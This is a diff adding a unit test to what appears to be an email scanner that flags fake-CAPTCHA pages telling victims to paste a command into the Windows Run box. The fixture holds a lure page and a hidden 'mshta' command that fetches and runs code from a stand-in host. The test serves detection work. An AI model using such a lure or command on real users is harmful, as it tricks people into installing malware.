@@ -51,4 +51,17 @@ describe('commands to paste', () => {
     assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Sendung.html', page('navigator.clipboard.writeText("JJD0001234567");', '<li>Ctrl + V in das Suchfeld</li>')])), []);
     assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Anleitung.html', page('/* powershell */', steps)])), []);
   });
+
+  it('the fake CAPTCHA whose command waits in a hidden text box, the steps naming the Run box and the paste (the thirty-second held-out pair)', async () => {
+    const head = 'From: Harbour Foods Remittance <accounts@dental.example>\r\nTo: sarah@example.com\r\nSubject: Remittance Advice\r\n';
+    const page = (box: string, steps: string): Buffer => Buffer.from(`<html><body><h2>Verify you are human</h2><input type="checkbox" id="c"> I'm not a robot
+<div id="s" style="display:none"><ol>${steps}</ol></div><textarea id="p" style="position:absolute;left:-9999px">${box}</textarea></body></html>`);
+    const steps = '<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li>';
+    assert.deepEqual(await run(mailWithDocuments(head, 'Please open it in your browser.', ['Remittance.html', page('cmd /c start /min mshta https://x.example/r # I am not a robot', steps)])), [
+      'PASTE_COMMAND_LURE: a page holds a command for the Run box ("cmd /c"…) in the attached page Remittance.html, to paste at "windows + r"',
+    ]);
+    // the Run box to type a program's name into, or a text box without a command, is no lure
+    assert.deepEqual(await run(mailWithDocuments(head, 'Anleitung.', ['Hilfe.html', page('\\\\fileserver\\scans', steps)])), []);
+    assert.deepEqual(await run(mailWithDocuments(head, 'Guide.', ['Help.html', page('cmd /c ipconfig', '<li>Press Windows + R and type mstsc</li>')])), []);
+  });
 });
